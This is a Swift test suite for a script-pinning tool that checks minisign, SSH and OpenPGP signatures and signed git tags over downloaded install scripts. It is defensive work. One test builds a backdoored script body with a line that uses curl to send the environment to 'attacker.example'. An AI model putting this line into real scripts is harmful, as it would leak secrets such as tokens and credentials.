import Foundation
import Testing
@testable import ScriptPinKit

/// Keys made at test time with the tools vendors sign with (minisign,
/// ssh-keygen, gpg), each in its own directory; public halves go into the
/// workspace's `known-hashes/keys/`, as a team would commit them.
final class Signers: @unchecked Sendable {
    let directory = TemporaryDirectory("scriptpin-signers")
    let keys: String

    init(workspace: Workspace) {
        keys = workspace.directory.url("known-hashes/keys")
        try! FileManager.default.createDirectory(atPath: keys, withIntermediateDirectories: true)
    }

    private func run(_ tool: String, _ arguments: [String], environment extra: [String: String] = [:]) -> ProcessResult {
        var environment = ProcessRunner.baseEnvironment(home: directory.path)
        environment.merge(extra) { $1 }
        let result = ProcessRunner.run(tool, arguments, in: directory.path, environment: environment)
        #expect(result.status == 0, "\(tool) \(arguments): \(result.stderr)")
        return result
    }

    /// A minisign key pair; the public key is committed when `trusted`. Returns its key id.
    func minisignKey(_ name: String, trusted: Bool = true) -> String {
        _ = run("minisign", ["-G", "-W", "-p", directory.url("\(name).pub"), "-s", directory.url("\(name).key")])
        let publicKey = try! String(contentsOfFile: directory.url("\(name).pub"), encoding: .utf8)
        if trusted { try! publicKey.write(toFile: keys + "/\(name).pub", atomically: true, encoding: .utf8) }
        return String(publicKey.split(separator: "\n")[0].split(separator: " ").last!)
    }

    /// `content` signed with minisign key `name` (prehashed unless `legacy`).
    func minisign(_ name: String, _ content: String, comment: String = "release 1.0", legacy: Bool = false) -> String {
        let message = directory.write("message-\(UUID().uuidString)", content)
        _ = run("minisign", ["-S", "-s", directory.url("\(name).key"), "-m", message, "-t", comment] + (legacy ? ["-l"] : []))
        return (try? String(contentsOfFile: message + ".minisig", encoding: .utf8)) ?? ""
    }

    /// An OpenSSH key of `type` (ed25519, ecdsa, rsa); returns its fingerprint.
    func sshKey(_ name: String, type: String, trusted: Bool = true) -> String {
        _ = run("ssh-keygen", ["-q", "-t", type, "-N", "", "-C", "\(name)@vendor.example", "-f", directory.url(name)])
        if trusted { try! FileManager.default.copyItem(atPath: directory.url("\(name).pub"), toPath: keys + "/\(name).pub") }
        let listed = run("ssh-keygen", ["-l", "-f", directory.url("\(name).pub")]).stdout
        return String(listed.split(separator: " ")[1])
    }

    func sshSign(_ name: String, _ content: String, namespace: String = "file") -> String {
        let message = directory.write("message-\(UUID().uuidString)", content)
        _ = run("ssh-keygen", ["-Y", "sign", "-f", directory.url(name), "-n", namespace, message])
        return (try? String(contentsOfFile: message + ".sig", encoding: .utf8)) ?? ""
    }

    var gnupgHome: String { directory.url("gnupg") }

    /// An OpenPGP signing key; `created` fakes the clock (an old key that has
    /// expired by now); its public key is exported into the committed keyring when `trusted`.
    func pgpKey(_ name: String, expires: String = "1y", created: String? = nil, trusted: Bool = true) -> String {
        try? FileManager.default.createDirectory(atPath: gnupgHome, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
        let clock = created.map { ["--faked-system-time", $0] } ?? []
        _ = run("gpg", ["--homedir", gnupgHome, "--batch", "--passphrase", ""] + clock + ["--quick-gen-key", "\(name) <\(name)@vendor.example>", "ed25519", "sign", expires])
        let listing = run("gpg", ["--homedir", gnupgHome, "--with-colons", "--list-keys", "\(name)@vendor.example"]).stdout
        let fingerprint = String(listing.split(separator: "\n").first { $0.hasPrefix("fpr:") }!.split(separator: ":", omittingEmptySubsequences: false)[9])
        if trusted {
            let exported = run("gpg", ["--homedir", gnupgHome, "--export", fingerprint]).stdoutData
            FileManager.default.createFile(atPath: keys + "/\(name).gpg", contents: exported)
        }
        return fingerprint
    }

    /// A detached armored signature by `fingerprint`; `options` such as `--digest-algo SHA1` or a faked clock.
    func pgpSign(_ fingerprint: String, _ content: String, options: [String] = []) -> String {
        let message = directory.write("message-\(UUID().uuidString)", content)
        _ = run("gpg", ["--homedir", gnupgHome, "--batch", "--yes", "--armor", "-u", fingerprint] + options + ["--detach-sign", "-o", message + ".asc", message])
        return (try? String(contentsOfFile: message + ".asc", encoding: .utf8)) ?? ""
    }

    /// A signed annotated tag at HEAD of `repository`: with gpg key `fingerprint`, or with SSH key `sshKey`.
    func signTag(_ tag: String, in repository: String, pgp fingerprint: String? = nil, ssh sshKey: String? = nil) {
        var configuration: [String] = []
        if let fingerprint { configuration = ["-c", "gpg.program=gpg", "-c", "user.signingkey=\(fingerprint)"] }
        if let sshKey { configuration = ["-c", "gpg.format=ssh", "-c", "user.signingkey=\(directory.url(sshKey))"] }
        var environment = ProcessRunner.baseEnvironment(home: directory.path)
        environment["GNUPGHOME"] = gnupgHome
        environment["GIT_COMMITTER_NAME"] = "Vendor"
        environment["GIT_COMMITTER_EMAIL"] = "release@vendor.example"
        let result = ProcessRunner.run("git", configuration + ["-C", repository, "tag", "-f", "-s", tag, "-m", "release \(tag)"], in: repository, environment: environment)
        #expect(result.status == 0, "git tag -s: \(result.stderr)")
    }
}

@Suite("Signatures: minisign, OpenSSH and OpenPGP by keys kept in the repository")
struct SignatureTests {
    let server: HTTPSFixture

    init() throws {
        server = try HTTPSFixture()
    }

    /// Publishes `script` at NAME.sh and `signature` at NAME.sh.sig, and expects
    /// `add` to refuse the pin with `message` about that signature, writing nothing.
    private func expectRefusal(_ vendor: Vendor, _ name: String, script: String, kind: String, signature: String, key: String, message: String) {
        server.serve("\(name).sh", script)
        server.serve("\(name).sh.sig", signature)
        let url = server.url("files/\(name).sh")
        let result = vendor.scriptpin(["add", name, url, "--signature", kind, url + ".sig", key, "--yes"])
        #expect(result.status == 1, "\(name): \(result.stderr)")
        #expect(result.stderr.contains("signature \(kind) \(url).sig: \(message)"), "\(name): \(result.stderr)")
        #expect(result.stderr.hasSuffix("; nothing was written. The vendor's repository, checksum file or signing key is a channel whoever controls the download host does not control: if they disagree, treat the download as tampered with until the vendor explains the difference\n"), "\(name): \(result.stderr)")
        #expect(vendor.pinText(name) == nil)
    }

    @Test("minisign: prehashed and legacy signatures by the pinned key confirm the body; another key, a changed trusted comment or a changed body do not")
    func minisign() throws {
        let vendor = Vendor(server: server)
        let signers = Signers(workspace: vendor.work)
        let script = "#!/bin/sh\necho minisigned\n"
        let key = signers.minisignKey("vendor")
        server.serve("tool.sh", script)
        server.serve("tool.sh.minisig", signers.minisign("vendor", script))
        let url = server.url("files/tool.sh")
        let added = vendor.scriptpin(["add", "tool", url, "--signature", "minisign", url + ".minisig", key, "--yes"])
        #expect(added.status == 0, "\(added.stderr)")
        #expect(added.stdout.contains("evidence     signature minisign \(url).minisig: good minisign signature by key \(key), trusted comment: release 1.0, over the body\n"), "\(added.stdout)")
        #expect(vendor.pinText("tool")?.contains("\nsignature minisign \(url).minisig \(key)\n") == true)

        func refused(_ name: String, signature: String, key: String, expecting message: String) {
            expectRefusal(vendor, name, script: script, kind: "minisign", signature: signature, key: key, message: message)
        }
        server.serve("legacy.sh", script)
        server.serve("legacy.sh.minisig", signers.minisign("vendor", script, legacy: true))
        let legacyURL = server.url("files/legacy.sh")
        #expect(vendor.scriptpin(["add", "legacy", legacyURL, "--signature", "minisign", legacyURL + ".minisig", key, "--yes"]).status == 0)

        let other = signers.minisignKey("other", trusted: false)
        refused("other", signature: signers.minisign("other", script), key: key, expecting: "it is signed by minisign key \(other), not by the key the pin names")
        refused("untrusted", signature: signers.minisign("other", script), key: other,
                expecting: "known-hashes/keys holds no minisign public key \(other); add the vendor's .pub file there")
        let signed = signers.minisign("vendor", script, comment: "release 1.0").split(separator: "\n", omittingEmptySubsequences: false)
        let recommented = signed.enumerated().map { $0.offset == 2 ? "trusted comment: release 9.9" : String($0.element) }.joined(separator: "\n")
        refused("comment", signature: recommented, key: key, expecting: "its trusted comment was changed after signing (the second signature does not cover it)")
        refused("body", signature: signers.minisign("vendor", script + "echo changed\n"), key: key, expecting: "it does not verify: the signed bytes differ from these")
    }

    @Test("OpenSSH: ed25519, ECDSA and RSA signatures in the file namespace; another namespace or key is refused")
    func ssh() throws {
        let vendor = Vendor(server: server)
        let signers = Signers(workspace: vendor.work)
        let script = "#!/bin/sh\necho ssh-signed\n"
        for type in ["ed25519", "ecdsa", "rsa"] {
            let fingerprint = signers.sshKey(type, type: type)
            server.serve("\(type).sh", script)
            server.serve("\(type).sh.sig", signers.sshSign(type, script))
            let url = server.url("files/\(type).sh")
            let added = vendor.scriptpin(["add", type, url, "--signature", "ssh", url + ".sig", fingerprint, "--yes"])
            #expect(added.status == 0, "\(type): \(added.stderr)")
            let format = ["ed25519": "ssh-ed25519", "ecdsa": "ecdsa-sha2-nistp256", "rsa": "rsa-sha2-512"][type]!
            #expect(added.stdout.contains(": good \(format) signature by SSH key \(fingerprint) in the namespace file, over the body\n"), "\(added.stdout)")
            #expect(vendor.pinText(type)?.contains("\nsignature ssh \(url).sig \(fingerprint) namespace file\n") == true)
        }
        let key = signers.sshKey("vendor", type: "ed25519")
        let other = signers.sshKey("other", type: "ed25519", trusted: false)
        for (name, signature, message) in [
            ("namespace", signers.sshSign("vendor", script, namespace: "git"), "it was made for the namespace 'git', and the pin expects 'file'"),
            ("otherkey", signers.sshSign("other", script), "it is signed by SSH key \(other), not by the key the pin names"),
            ("changed", signers.sshSign("vendor", script + "echo changed\n"), "it does not verify: the signed bytes differ from these"),
        ] {
            expectRefusal(vendor, name, script: script, kind: "ssh", signature: signature, key: key, message: message)
        }
    }

    @Test("OpenPGP over the vendor's checksum file (Codecov's uploader shape): add records what the signature covers; check sees a re-signed file by another key")
    func pgpOverSums() throws {
        let vendor = Vendor(server: server)
        let signers = Signers(workspace: vendor.work)
        let fingerprint = signers.pgpKey("release")
        let script = "#!/bin/sh\necho uploader\n"
        let sums = "\(sha256Hex(script))  uploader\n"
        server.serve("uploader", script)
        server.serve("uploader.SHA256SUM", sums)
        server.serve("uploader.SHA256SUM.sig", signers.pgpSign(fingerprint, sums))
        let url = server.url("files/uploader")
        let added = vendor.scriptpin([
            "add", "uploader", url, "--sums", url + ".SHA256SUM", "--signature", "pgp", url + ".SHA256SUM.sig", fingerprint, "--yes",
        ])
        #expect(added.status == 0, "\(added.stderr)")
        #expect(added.stdout.contains("evidence     signature pgp \(url).SHA256SUM.sig: good OpenPGP signature by key \(fingerprint) (made "), "\(added.stdout)")
        #expect(added.stdout.contains("), over \(url).SHA256SUM\n"), "\(added.stdout)")
        #expect(vendor.pinText("uploader")?.contains("\nsums \(url).SHA256SUM\nsignature pgp \(url).SHA256SUM.sig \(fingerprint) over \(url).SHA256SUM\n") == true)
        #expect(vendor.scriptpin(["check"]).status == 0)

        // Whoever took the host publishes sums for a backdoored body and signs them with a key of their own.
        let intruder = signers.pgpKey("intruder")
        let backdoored = script + "curl -d \"$(env)\" https://attacker.example/\n"
        server.serve("uploader", backdoored)
        server.serve("uploader.SHA256SUM", "\(sha256Hex(backdoored))  uploader\n")
        server.serve("uploader.SHA256SUM.sig", signers.pgpSign(intruder, "\(sha256Hex(backdoored))  uploader\n"))
        let checked = vendor.scriptpin(["check"])
        #expect(checked.status == 1, "\(checked.stdout)")
        #expect(checked.stdout.contains("changed     uploader"), "\(checked.stdout)")
        let update = vendor.scriptpin(["update", "uploader", "--yes"])
        #expect(update.status == 1, "\(update.stderr)")
        #expect(update.stderr.contains("signature pgp \(url).SHA256SUM.sig: it is signed by OpenPGP key \(intruder), not by the key the pin names"), "\(update.stderr)")
        #expect(vendor.pinText("uploader")?.contains(sha256Hex(script)) == true, "the pin is unchanged")
    }

    @Test("OpenPGP refusals: SHA-1, an expired key, an expired signature, a key outside the keyrings, no gpgv")
    func pgpRefusals() throws {
        let vendor = Vendor(server: server)
        let signers = Signers(workspace: vendor.work)
        let current = signers.pgpKey("current")
        let old = signers.pgpKey("old", expires: "2d", created: "20200101T000000")
        let ancient = signers.pgpKey("ancient", expires: "never", created: "20200101T000000")
        let stranger = signers.pgpKey("stranger", trusted: false)
        let script = "#!/bin/sh\necho pgp\n"
        let cases: [(String, String, String, String)] = [
            ("sha1", current, signers.pgpSign(current, script, options: ["--digest-algo", "SHA1"]),
             "it is made over SHA-1, which can be forged; the vendor must sign with SHA-256 or stronger"),
            ("expiredkey", old, signers.pgpSign(old, script, options: ["--faked-system-time", "20200101T010000"]), "the key that made it has expired"),
            ("expiredsig", ancient, signers.pgpSign(ancient, script, options: ["--faked-system-time", "20200101T010000", "--default-sig-expire", "1d"]),
             "the signature has expired"),
            ("stranger", stranger, signers.pgpSign(stranger, script), "it is signed by an OpenPGP key not in the keyrings"),
            ("badsig", current, signers.pgpSign(current, script + "echo changed\n"), "gpgv says the signature is bad: the signed bytes differ from what was signed"),
        ]
        for (name, fingerprint, signature, message) in cases {
            expectRefusal(vendor, name, script: script, kind: "pgp", signature: signature, key: fingerprint, message: message)
        }
        server.serve("good.sh", script)
        server.serve("good.sh.sig", signers.pgpSign(current, script))
        let url = server.url("files/good.sh")
        let other = vendor.scriptpin(["add", "good", url, "--signature", "pgp", url + ".sig", old, "--yes"])
        #expect(other.status == 1)
        #expect(other.stderr.contains("it is signed by OpenPGP key \(current), not by the key the pin names"), "\(other.stderr)")

        var withoutGPGV = vendor.environment
        let tools = TemporaryDirectory("scriptpin-path")
        withoutGPGV["PATH"] = tools.path
        let missing = vendor.work.scriptpin(["add", "good", url, "--signature", "pgp", url + ".sig", current, "--yes"], environment: withoutGPGV)
        #expect(missing.status == 1)
        #expect(missing.stderr.contains("gpgv is not installed; install it (Debian: apt-get install gpgv) to check pgp signature lines"), "\(missing.stderr)")
        let good = vendor.scriptpin(["add", "good", url, "--signature", "pgp", url + ".sig", current, "--yes"])
        #expect(good.status == 0, "\(good.stderr)")
    }

    @Test("A signed tag: the tag object's signature and the tag → commit → file chain confirm the body; an unsigned tag, a tag re-signed by another key, and a moved tag do not")
    func signedTags() throws {
        let vendor = Vendor(server: server)
        let signers = Signers(workspace: vendor.work)
        let fingerprint = signers.pgpKey("maintainer")
        let sshKey = signers.sshKey("tagger", type: "ed25519")
        let script = "#!/bin/sh\necho nvm-like\n"
        let commit = vendor.commit("install.sh", script)
        signers.signTag("v1.0", in: vendor.repository, pgp: fingerprint)
        signers.signTag("v1.0-ssh", in: vendor.repository, ssh: "tagger")
        vendor.tag("v1.0-unsigned")
        server.serve("install.sh", script)
        let url = server.url("files/install.sh")
        let added = vendor.scriptpin([
            "add", "tool", url, "--source", "github:vendor/tool@v1.0:install.sh", "--signature", "pgp", "github:vendor/tool@v1.0", fingerprint, "--yes",
        ])
        #expect(added.status == 0, "\(added.stderr)")
        #expect(added.stdout.contains("evidence     signature pgp github:vendor/tool@v1.0: good OpenPGP signature by key \(fingerprint) (made "), "\(added.stdout)")
        #expect(added.stdout.contains("), over the tag object, which tags commit \(commit)\n"), "\(added.stdout)")
        #expect(vendor.pinText("tool")?.contains("\nsignature pgp github:vendor/tool@v1.0 \(fingerprint)\n") == true)

        server.serve("ssh.sh", script)
        let sshURL = server.url("files/ssh.sh")
        let sshTag = vendor.scriptpin([
            "add", "ssh", sshURL, "--source", "github:vendor/tool@v1.0-ssh:install.sh", "--signature", "ssh", "github:vendor/tool@v1.0-ssh", sshKey, "--yes",
        ])
        #expect(sshTag.status == 0, "\(sshTag.stderr)")
        #expect(sshTag.stdout.contains("good ssh-ed25519 signature by SSH key \(sshKey) in the namespace git, over the tag object, which tags commit \(commit)\n"), "\(sshTag.stdout)")

        server.serve("unsigned.sh", script)
        let unsigned = vendor.scriptpin([
            "add", "unsigned", server.url("files/unsigned.sh"), "--source", "github:vendor/tool@v1.0-unsigned:install.sh",
            "--signature", "pgp", "github:vendor/tool@v1.0-unsigned", fingerprint, "--yes",
        ])
        #expect(unsigned.status == 1)
        #expect(unsigned.stderr.contains("signature pgp github:vendor/tool@v1.0-unsigned: tag v1.0-unsigned of vendor/tool is not signed"), "\(unsigned.stderr)")
        let noSource = vendor.scriptpin(["add", "nosource", server.url("files/unsigned.sh"), "--signature", "pgp", "github:vendor/tool@v1.0", fingerprint, "--yes"])
        #expect(noSource.status == 2)
        #expect(noSource.stderr.contains("no source line of the pin is a file at that tag; add `source github:vendor/tool@v1.0:PATH`"), "\(noSource.stderr)")

        // The tag is moved to a new commit and signed by someone else's key.
        #expect(vendor.scriptpin(["check", "tool"]).status == 0)
        let intruder = signers.pgpKey("intruder", trusted: false)
        let moved = vendor.commit("install.sh", script + "echo more\n")
        signers.signTag("v1.0", in: vendor.repository, pgp: intruder)
        let checked = vendor.scriptpin(["check", "tool"])
        #expect(checked.status == 1)
        #expect(checked.stdout.contains("tag v1.0 of vendor/tool moved: it points at commit \(moved) now, and at \(commit) when the pin was approved"), "\(checked.stdout)")
        #expect(checked.stdout.contains("signature pgp github:vendor/tool@v1.0: it is signed by an OpenPGP key not in the keyrings"), "\(checked.stdout)")
    }

    @Test("A signature that cannot be fetched is unreachable (exit 3), a missing one (404) contradicts")
    func unreachableSignature() throws {
        let vendor = Vendor(server: server)
        let signers = Signers(workspace: vendor.work)
        let key = signers.minisignKey("vendor")
        server.serve("tool.sh", "#!/bin/sh\necho x\n")
        let url = server.url("files/tool.sh")
        let closed = vendor.scriptpin(["add", "tool", url, "--signature", "minisign", "https://127.0.0.1:1/tool.sh.minisig", key, "--yes"])
        #expect(closed.status == 3, "\(closed.stderr)")
        let missing = vendor.scriptpin(["add", "tool", url, "--signature", "minisign", url + ".minisig", key, "--yes"])
        #expect(missing.status == 1)
        #expect(missing.stderr.contains("signature minisign \(url).minisig: \(url).minisig answers 404: there is no signature there"), "\(missing.stderr)")
    }

    @Test("gpgv's status is read line by line from its first word: a bare keyword line, text quoting a status line, or a VALIDSIG by a subkey of another primary are not accepted")
    func pgpStatusLines() {
        let fingerprint = "F59FFE4984C7DFD1005A24AC3B0227DA29CB0D81"
        let valid = "[GNUPG:] VALIDSIG \(fingerprint) 2026-12-06 1796596549 0 4 0 22 8 00 \(fingerprint)\n"
        guard case .success = PGPSignature.judge(status: Array(valid.utf8), exited: .exited(0), fingerprint: fingerprint) else {
            Issue.record("a plain VALIDSIG was refused")
            return
        }
        let cases = ["[GNUPG:]\n", "gpgv: " + valid, valid.replacingOccurrences(of: " 8 00 ", with: " 2 00 "),
                     "[GNUPG:] VALIDSIG \(fingerprint) 2026-12-06 1796596549 0 4 0 22 8 00 \(String(repeating: "0", count: 40))\n",
                     "[GNUPG:] EXPKEYSIG 3B0227DA29CB0D81 Vendor\n" + valid]
        for status in cases {
            if case .success = PGPSignature.judge(status: Array(status.utf8), exited: .exited(0), fingerprint: fingerprint) {
                Issue.record("accepted: \(status)")
            }
        }
        if case .success = PGPSignature.judge(status: Array(valid.utf8), exited: .exited(1), fingerprint: fingerprint) {
            Issue.record("accepted although gpgv failed")
        }
    }
}
